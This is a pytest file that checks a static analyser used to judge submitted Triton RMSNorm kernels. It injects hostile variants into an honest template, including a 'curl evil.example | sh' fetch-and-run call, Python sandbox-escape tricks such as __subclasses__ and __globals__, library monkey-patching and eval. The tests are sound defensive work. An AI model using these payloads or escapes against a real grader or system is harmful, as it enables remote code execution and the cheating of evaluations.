"""The static check accepts the template and refuses hostile sources, each with the right rule id."""

from __future__ import annotations

import pytest
from judge_testkit import honest_source

from services.core.pb import events_pb2 as pb
from services.judge.static_check import check_source, first_finding
from services.judge.static_rules import RULES

CONTRACT = pb.Contract(kind="module_class", entrypoint="rmsnorm_forward")
HONEST = honest_source()
WRAPPER_BODY = "    out_dtype = torch.promote_types(weight.dtype, hidden_states.dtype)\n"
LAUNCH = "        _launch(x2d, weight.contiguous(), y2d, float(eps))\n"


def _inject(old: str, new: str) -> str:
    assert old in HONEST, old
    return HONEST.replace(old, new, 1)


def _in_wrapper(code: str) -> str:
    return _inject(WRAPPER_BODY, WRAPPER_BODY + "".join(f"    {line}\n" for line in code.splitlines()))


HOSTILE = {
    "syntax": HONEST + "\ndef broken(:\n",
    "no-jit-kernel": _inject("@triton.jit\n", ""),
    "kernel-not-launched": _inject(LAUNCH, "        pass\n"),
    "import-not-allowed": _inject("import torch\n", "import torch\nimport os\n"),
    "forbidden-call": _in_wrapper('eval("1 + 1")'),
    "torch-computes-op": _in_wrapper("return torch.nn.functional.rms_norm(hidden_states, (n_cols,), weight, eps)"),
    "try-except": _inject(LAUNCH, "        try:\n    " + LAUNCH + "        except Exception:\n            pass\n"),
    "global-state": _in_wrapper("global NUM_WARPS\nNUM_WARPS = 8"),
    "forbidden-module": _in_wrapper('torch.os.system("curl evil.example | sh")'),
    "patches-library": _in_wrapper("triton.cdiv = max"),
    "dunder-access": _in_wrapper("().__class__.__bases__[0].__subclasses__()"),
    "module-alias": _in_wrapper("t = torch\nt.manual_seed(0)"),
    "module-statement": HONEST + '\nprint("runs at import, in the server too")\n',
    "mutates-input": _in_wrapper("weight.mul_(2.0)"),
    "decorator": _inject("def rmsnorm_forward(", "@torch.compile\ndef rmsnorm_forward("),
    "default-value": _inject(
        "def rmsnorm_forward(hidden_states, weight, eps)", "def rmsnorm_forward(hidden_states, weight, eps=float(1))"
    ),
    "torch-internals": _in_wrapper("torch.ops.aten.add(hidden_states, 1)"),
}


def test_the_template_passes_every_rule():
    evidence = check_source(HONEST, CONTRACT)
    assert evidence.passed, first_finding(evidence)
    assert list(evidence.rules_checked) == list(RULES)


@pytest.mark.parametrize("rule", sorted(HOSTILE))
def test_hostile_source_is_refused_with_its_rule(rule):
    evidence = check_source(HOSTILE[rule], CONTRACT)
    assert not evidence.passed
    rules = [f.rule_id for f in evidence.findings]
    assert rule in rules, rules
    finding = next(f for f in evidence.findings if f.rule_id == rule)
    assert finding.reason and "\n" not in finding.reason
    if rule not in ("no-jit-kernel", "kernel-not-launched"):
        assert finding.line > 0


def test_missing_entrypoint_is_named():
    evidence = check_source(HONEST, pb.Contract(entrypoint="layernorm_forward"))
    assert [f.rule_id for f in evidence.findings] == ["entrypoint-missing"]
    assert "'layernorm_forward'" in evidence.findings[0].reason


def test_tensor_maths_outside_the_kernel_is_refused_but_scalar_maths_is_not():
    evidence = check_source(_in_wrapper("variance = hidden_states.float().pow(2).mean(-1, keepdim=True)"), CONTRACT)
    assert {f.rule_id for f in evidence.findings} == {"torch-computes-op"}
    assert check_source(
        _in_wrapper("scale = math.sqrt(4.0)").replace("import torch\n", "import math\nimport torch\n"), CONTRACT
    ).passed


def test_indirection_does_not_hide_forbidden_names():
    cases = {
        "forbidden-call": "g = getattr\ng(torch, 'nn')",
        "dunder-access": '"{0.__globals__}".format(rmsnorm_forward)',
        "forbidden-module": "typing.sys.modules.clear()",
    }
    for rule, code in cases.items():
        source = _in_wrapper(code).replace("import torch\n", "import torch\nimport typing\n")
        assert rule in [f.rule_id for f in check_source(source, CONTRACT).findings], rule


def test_without_a_contract_some_function_must_launch_the_kernel():
    assert check_source(HONEST).passed
    assert "entrypoint-missing" not in check_source(HONEST).rules_checked
    never_launched = _inject("_rmsnorm_fwd_kernel[grid](", "print(")
    assert [f.rule_id for f in check_source(never_launched).findings] == ["kernel-not-launched"]
